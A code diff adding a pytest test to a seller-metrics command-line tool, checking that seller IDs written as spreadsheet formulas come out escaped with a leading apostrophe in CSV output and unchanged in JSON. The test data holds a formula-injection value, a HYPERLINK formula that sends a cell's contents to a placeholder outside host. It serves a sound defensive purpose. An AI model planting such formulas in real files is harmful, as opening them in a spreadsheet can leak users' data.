@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import csv
 import io
+import json
 from pathlib import Path
 
 import pytest
@@ -129,3 +130,32 @@ def test_a_spreadsheets_unicode_text_export_is_read(
     args = ["metrics", "compute", "--profile", "canonical", "--source", str(path)]
     assert main([*args, "--as-of", "2026-11-30"]) == 0
     assert "A1,negative_feedback_rate,60,1,2,0.5,0.01,breach" in capsys.readouterr().out
+
+
+def test_a_seller_id_written_as_a_formula_is_printed_as_text(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """An order file passed on by someone else may name its seller as a spreadsheet formula;
+    the metrics CSV, opened in a spreadsheet, shows it as written instead of running it."""
+    sellers = ['=HYPERLINK("http://x.example/?"&A1,"Seller")', "@SUM(1+1)", "+86-755", "A1"]
+    text = io.StringIO()
+    writer = csv.writer(text)
+    writer.writerow(["order_id", "account_id", "purchase_ts", "ship_by_ts", "shipped_ts"])
+    for n, seller in enumerate(sellers):
+        ts = "2026-11-20T08:00:00Z"
+        writer.writerow([f"o{n}", seller, ts, "2026-11-22T08:00:00Z", ts])
+    path = tmp_path / "orders.csv"
+    path.write_text(text.getvalue(), encoding="utf-8")
+    args = ["metrics", "compute", "--profile", "canonical", "--source", str(path)]
+    assert main([*args, "--as-of", "2026-11-30"]) == 0
+    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))[1:]
+    assert {row[0] for row in rows} == {
+        '\'=HYPERLINK("http://x.example/?"&A1,"Seller")',
+        "'@SUM(1+1)",
+        "'+86-755",
+        "A1",
+    }
+    # the JSON keeps the seller ids as they are
+    assert main([*args, "--as-of", "2026-11-30", "--json"]) == 0
+    document = json.loads(capsys.readouterr().out)
+    assert {row["account_id"] for row in document["rows"]} == set(sellers)
